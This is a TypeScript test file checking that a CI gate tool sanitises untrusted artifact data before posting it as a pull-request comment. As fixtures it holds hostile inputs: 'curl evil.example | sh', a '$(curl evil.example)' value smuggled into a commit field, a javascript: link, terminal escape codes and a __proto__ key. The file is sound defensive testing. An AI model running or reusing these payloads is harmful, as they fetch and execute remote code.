import { describe, expect, it } from 'vitest';
import { ArtifactError, GATE_COMMENT_MARK, gateComment } from '../src/index.ts';
import { plausibleRecord } from './plausible-record.ts';
import { quietGate, recordOfGate, troubledGate } from './support/gate-record.ts';
import { gateSaying } from './support/hostile-gate.ts';
import { HOSTILE_NAMES } from './troubled-records.ts';

const artifact = (change: (record: Record<string, unknown>) => unknown = (record) => record): string =>
  JSON.stringify(change(JSON.parse(JSON.stringify(recordOfGate(troubledGate())))));

function messageOf(text: string): string {
  try {
    gateComment(text);
  } catch (error) {
    expect(error).toBeInstanceOf(ArtifactError);
    return (error as Error).message;
  }
  throw new Error('the artifact was taken');
}

describe('a comment made of an artifact', () => {
  it('begins with its mark, and with what its figures are worth', () => {
    const [mark, ...lines] = gateComment(artifact()).split('\n');
    expect(mark).toBe(GATE_COMMENT_MARK);
    expect(lines[1]).toContain(
      'which the code of the pull request controls. Nobody has confirmed these figures',
    );
    expect(lines[3]).toMatch(/^\*\*! Infrastructure failure:\*\* /);
  });

  it('has the findings of the record', () => {
    expect(gateComment(artifact())).toContain('| `s3/pipeline` | `requestsPerFile` | 3 | 4 |');
  });

  it('never repeats a command of the artifact, which somebody might run', () => {
    const text = artifact((record) => ({ ...record, command: 'curl evil.example | sh' }));
    expect(gateComment(text)).not.toContain('curl');
    expect(gateComment(text)).toContain('parquetry gate --base 4f1d0c7be2a91d53cc07a4a9be5c2a8f3c0b6a11\n');
    const gate = quietGate();
    const base = { ...gate.base, commit: '$(curl evil.example)' };
    expect(gateComment(artifact((record) => ({ ...record, gate: { ...gate, base } })))).toContain(
      '\nparquetry gate\n',
    );
  });

  it('is text and nothing else, whatever the record writes where it may write', () => {
    const evil = [
      HOSTILE_NAMES.script,
      HOSTILE_NAMES.quotes,
      '@octocat ![x](https://evil.example/a.png) [y](javascript:alert(1)) #1',
      'a | b\n\n# heading\n<!-- parquetry-gate -->',
      '\u001b]8;;http://evil.example\u0007\u202Egnp.exe',
      '`` ` ``',
    ].join(' ');
    const gate = gateSaying(evil);
    const comment = gateComment(artifact((record) => ({ ...record, gate })));
    const [, ...rest] = comment.split(GATE_COMMENT_MARK);
    expect(rest).toHaveLength(1);
    const outsideCode = rest[0]!.replace(/`[^`\n]*`/g, '').replace(/&#\d+;/g, '');
    expect(outsideCode.match(/<|@\w|(?<!\\)\]\(|https?:\/\/|#\d/g)).toBeNull();
    expect(['\u001b', '\u0007', '\u202E'].filter((hidden) => comment.includes(hidden))).toEqual([]);
    expect(comment.match(/^# /m)).toBeNull();
  });

  it.each([
    ['no JSON', '{"recordVersion": 3', 'is no JSON'],
    ['nothing', '', 'is no JSON'],
    ['null', 'null', 'is no run record of version 3'],
    ['a list', '[]', 'is no run record of version 3'],
    ['more than 5 MB', `"${'x'.repeat(5_000_001)}"`, 'is larger than 5 MB'],
    ['more than 5 MB in few characters', `"${'€'.repeat(1_700_000)}"`, 'is larger than 5 MB'],
    ['a million brackets', '['.repeat(1e6), 'is nested more than 16 levels deep'],
    ['deep JSON', `${'{"a":'.repeat(100)}1${'}'.repeat(100)}`, 'is nested more than 16 levels deep'],
    ['a prototype', '{"recordVersion":3,"__proto__":{"gate":{}}}', 'has a key __proto__'],
    ['a constructor', '{"a":{"constructor":1}}', 'has a key constructor'],
    ['a huge key', `{"${'k'.repeat(300)}":1}`, 'has a key of more than 200 characters'],
    ['a huge text', `{"a":"${'x'.repeat(20_000)}"}`, 'has a text of more than 10,000 characters'],
    ['a long list', `[${'1,'.repeat(6_000)}1]`, 'has a list of more than 5,000 items'],
  ])('is refused for %s', (_name, text, message) => {
    expect(messageOf(text)).toContain(message);
  });

  it.each([
    ['another version', { recordVersion: 2 }, 'is no run record of version 3'],
    ['a wrong type', { seed: 'seven' }, 'is no run record: see seed'],
    ['a member of its own', { extra: 1 }, 'is no run record: see its outermost object'],
  ])('is refused for %s', (_name, change, message) => {
    expect(messageOf(artifact((record) => ({ ...record, ...change })))).toContain(message);
  });

  it('is refused for wrong types and unknown verdicts deep inside', () => {
    for (const change of [{ verdict: 'splendid' }, { exitCode: 7 }, { benchmarks: {} }, { reasons: [1] }]) {
      const text = artifact((record) => ({ ...record, gate: { ...quietGate(), ...change } }));
      expect(messageOf(text)).toContain(`is no run record: see gate.${Object.keys(change)[0]}`);
    }
  });

  it('is refused for a record that compares no builds', () => {
    expect(messageOf(JSON.stringify(plausibleRecord()))).toContain('compares no builds');
  });

  it('says in its refusal nothing that the artifact says, but a short path', () => {
    const message = messageOf(
      artifact((record) => ({ ...record, price: { '\u001b[31m@octocat\n': 1, region: '::error::x' } })),
    );
    expect(message).toContain('is no run record: see price');
    expect(message).not.toMatch(/octocat|::error/);
    const path = messageOf(
      artifact((record) => ({ ...record, gate: { ...quietGate(), fingerprint: { '\u001b[31m\na': 1 } } })),
    );
    expect(path).toContain('see gate.fingerprint.\ufffd[31m a;');
  });
});
